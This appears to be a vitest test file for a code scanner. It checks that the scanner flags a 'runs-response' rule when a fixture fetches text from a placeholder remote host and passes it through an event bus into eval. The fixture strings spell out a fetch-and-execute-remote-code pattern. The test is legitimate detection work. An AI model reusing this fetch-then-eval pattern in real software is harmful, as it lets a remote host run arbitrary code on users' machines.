import { expect, it } from 'vitest';
import { rulesIn } from '../../support/rules-in.js';

const listener = (event: string): string =>
  `exports.bind = (bus) => bus.on('${event}', (n, text) => eval(text));`;
const emitter = (event: string): string =>
  `exports.load = async (bus) => bus.emit('${event}', 1, await (await fetch('https://c.example.invalid')).text());`;

it('follows what a program emits to its listeners', async () => {
  expect(await rulesIn({ 'index.js': `${listener('rules')}\n${emitter('rules')}` })).toContain(
    'code/runs-response',
  );
});

it.each([
  ['another event', listener('rule'), emitter('rules')],
  ['an event that any stream has', listener('data'), emitter('data')],
])('follows nothing to %s', async (_, on, emit) => {
  expect(await rulesIn({ 'index.js': `${on}\n${emit}` })).not.toContain('code/runs-response');
});
